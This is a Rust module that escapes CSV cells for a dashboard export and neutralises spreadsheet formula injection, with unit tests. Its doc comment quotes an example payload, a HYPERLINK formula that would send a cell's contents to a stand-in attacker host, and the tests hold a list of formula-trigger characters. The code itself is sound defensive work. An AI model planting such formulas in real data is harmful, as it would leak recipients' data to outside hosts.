//! CSV (RFC 4180) that is safe to open in a spreadsheet: the cell and line rules every
//! export of the dashboard shares (calls, contacts).
//!
//! - **Quoting**: a cell holding a comma, a double quote or a line break is wrapped in
//!   double quotes, its quotes doubled; lines end with CRLF.
//! - **Formula injection**: spreadsheets run a cell that starts with `=`, `+`, `-` or `@`
//!   (and, in some, a tab or carriage return before one) as a formula — a caller naming
//!   themselves `=HYPERLINK("https://evil.example?"&A1, "Click")` would otherwise reach
//!   whoever opens the export. Such a cell gets a leading `'`, which spreadsheets show as
//!   text (OWASP's advice).

/// Characters that make a spreadsheet read a cell as a formula when they come first.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One cell: neutralised against formula injection, then quoted if it must be.
#[must_use]
pub fn cell(value: &str) -> String {
    let neutral = if value.starts_with(FORMULA_STARTS) {
        format!("'{value}")
    } else {
        value.to_owned()
    };
    if neutral.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", neutral.replace('"', "\"\""))
    } else {
        neutral
    }
}

/// Cells joined into one line, with its CRLF.
pub fn line<S: AsRef<str>>(cells: impl IntoIterator<Item = S>) -> String {
    let mut out = cells
        .into_iter()
        .map(|c| cell(c.as_ref()))
        .collect::<Vec<_>>()
        .join(",");
    out.push_str("\r\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_cells_stay_as_they_are() {
        assert_eq!(cell("Ann"), "Ann");
        assert_eq!(cell(""), "");
        assert_eq!(cell("ann@example.com"), "ann@example.com");
        assert_eq!(cell("Zoë 'Z' Ünal"), "Zoë 'Z' Ünal");
    }

    #[test]
    fn cells_are_quoted_per_rfc_4180() {
        assert_eq!(cell("a,b"), "\"a,b\"");
        assert_eq!(cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(cell("two\nlines"), "\"two\nlines\"");
        assert_eq!(cell("two\r\nlines"), "\"two\r\nlines\"");
    }

    #[test]
    fn formulas_are_neutralised() {
        for (raw, safe) in [
            ("=1+1", "'=1+1"),
            ("+31 20 123", "'+31 20 123"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            (
                "=HYPERLINK(\"http://x\",\"y\")",
                "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\"",
            ),
        ] {
            assert_eq!(cell(raw), safe, "{raw:?}");
        }
        // Only the first character counts.
        assert_eq!(cell("a=b"), "a=b");
        assert_eq!(cell(" =1"), " =1");
    }

    #[test]
    fn a_line_ends_with_crlf() {
        assert_eq!(line(["a", "b,c"]), "a,\"b,c\"\r\n");
    }
}
